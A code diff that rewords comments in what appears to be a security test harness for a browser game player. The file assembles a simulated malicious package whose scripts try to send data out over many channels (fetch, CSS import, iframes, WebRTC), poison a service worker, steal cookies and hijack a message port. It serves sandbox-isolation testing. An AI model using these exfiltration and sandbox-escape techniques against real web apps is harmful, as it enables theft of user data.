@@ -1,9 +1,9 @@
 import type { StagedFiles } from '../content-stage/staged-resource.ts'
 
-// What a package that means harm would try. Each attack reports by the games' own protocol whether it got something; what leaves the
-// browser is seen by the collector.
+// The attempts of a malicious package. Each attack reports over the games' own protocol whether it got something. The collector sees what leaves
+// the browser.
 
-/** Ways to carry something out of the page; each one asks the collector for an address that names it. */
+/** Ways to send data out of the page. Each one requests an address of the collector that names it. */
 export const CHANNELS = [
   'fetch',
   'fetch-keepalive',
@@ -49,10 +49,10 @@ export const CHANNELS = [
   'webrtc',
 ] as const
 
-/** What no policy closes in a browser yet (docs/decisions/what-stays-open.md). */
+/** The channels that no policy closes in a browser yet (docs/decisions/what-stays-open.md). */
 export const OPEN_CHANNELS: readonly string[] = ['webrtc']
 
-/** Scripts of the channels, each with the address it is to reach in `u`. */
+/** The scripts of the channels. `u` is the address that each tries to reach. */
 const CHANNEL_SCRIPTS: Record<(typeof CHANNELS)[number], string> = {
   fetch: 'fetch(u).catch(() => {})',
   'fetch-keepalive': 'fetch(u, { keepalive: true, mode: "no-cors" }).catch(() => {})',
@@ -80,7 +80,7 @@ const CHANNEL_SCRIPTS: Record<(typeof CHANNELS)[number], string> = {
   'data-document': 'frame("data:text/html," + encodeURIComponent(doc(u)))',
   srcdoc: 'frame().srcdoc = doc(u)',
   'error-document': 'errorDocuments(u)',
-  'poisoned-shell': 'globalThis.poisoned = poisonShell(u)', // needs the worker, which the next one ends
+  'poisoned-shell': 'globalThis.poisoned = poisonShell(u)', // needs the worker, which the next script ends
   modulepreload: 'add("link", { rel: "modulepreload", href: u })',
   'css-import': 'add("style", { textContent: "@import url(" + u + ")" })',
   'svg-image': 'add("div", { innerHTML: "<svg><image href=\\"" + u + "\\"/></svg>" })',
@@ -103,10 +103,13 @@ const CHANNEL_SCRIPTS: Record<(typeof CHANNELS)[number], string> = {
     'Promise.all([wait(1500), globalThis.poisoned]).then(() => navigator.serviceWorker.ready).then((r) => untouched.ServiceWorkerRegistration.prototype.unregister.call(r)).then(() => errorDocuments(u))',
 }
 
-/** The player stops honest content from leaving where it is (play/follow-leads.ts); an attack takes that away first, so that the policy alone keeps it in. */
+/**
+ * The player stops honest content from leaving its page (play/follow-leads.ts). An attack removes that first, so that only the policy keeps
+ * it in.
+ */
 const UNSTOPPED = 'for (const w of [window, parent]) w.Event.prototype.preventDefault = () => {}'
 
-/** The windows around the content, past what the player puts in place of `parent` and `top` for honest content (play/window-handles.ts). */
+/** The outer windows themselves. For honest content, the player replaces `parent` and `top` (play/window-handles.ts). */
 const AROUND = '(frameElement ? frameElement.ownerDocument.defaultView : parent)'
 const TOP = "window['to' + 'p']"
 
@@ -141,7 +144,7 @@ async function poisonShell(u) {
   await new Promise((done) => { f.onload = done; setTimeout(done, 5000) })
 }`
 
-/** What an attack finds counts when it is the app's, another package's, or power over either. */
+/** The thefts that count: data of the app or of another package, or power over either. */
 export const THEFTS = [
   'app-local-storage',
   'app-database',
@@ -181,7 +184,7 @@ const thefts = {
   },
 }`
 
-/** Takes the player's own port to the app, when the player asks over it for what a synchronous request may need, and asks for more. */
+/** Steals the player's own port to the app while the player asks over it for texts of synchronous requests, and asks for more. */
 const PORT_SCRIPT = `
 let stolen
 const post = parent.MessagePort.prototype.postMessage
@@ -201,7 +204,10 @@ async function steal() {
   parent.postMessage({ vereda: 'finish', objectData: got }, '*')
 }`
 
-/** The window's own cookies, and its way to windows, as they are in a frame that nobody has made ready: the player gives the content's pages others. */
+/**
+ * The window's own cookies and its access to windows, taken from a frame that the player has not prepared: the player replaces them in the
+ * content's pages.
+ */
 const ALL_COOKIES = `
 const bare = document.body.appendChild(document.createElement('iframe')).contentWindow
 const jar = Object.getOwnPropertyDescriptor(bare.Document.prototype, 'cookie')
@@ -211,10 +217,10 @@ const seen = () => jar.get.call(document)`
 const page = (body: string) =>
   `<!doctype html><meta charset="utf-8"><title>Attack</title><body><script>${TOOLS}\n${body}</script></body>`
 
-/** Where the app and the other package are, and which foreign address each channel is to reach. */
+/** The addresses of the app and of the other package, and the foreign address of each channel. */
 export type AttackTargets = { app: string; other: string; addressOf: (channel: string) => string }
 
-/** The package; `steal.html` and `out.html` report with a finish, the others act and are seen by the collector alone. */
+/** The malicious package. `steal.html` and `out.html` report with a finish; the others act, and only the collector sees it. */
 export function attackPackage({ app, other, addressOf }: AttackTargets): StagedFiles {
   const names = `const APP = ${JSON.stringify(app)}, OTHER = ${JSON.stringify(other)}, POPUP = ${JSON.stringify(addressOf('popup'))}`
   const channels = CHANNELS.map(
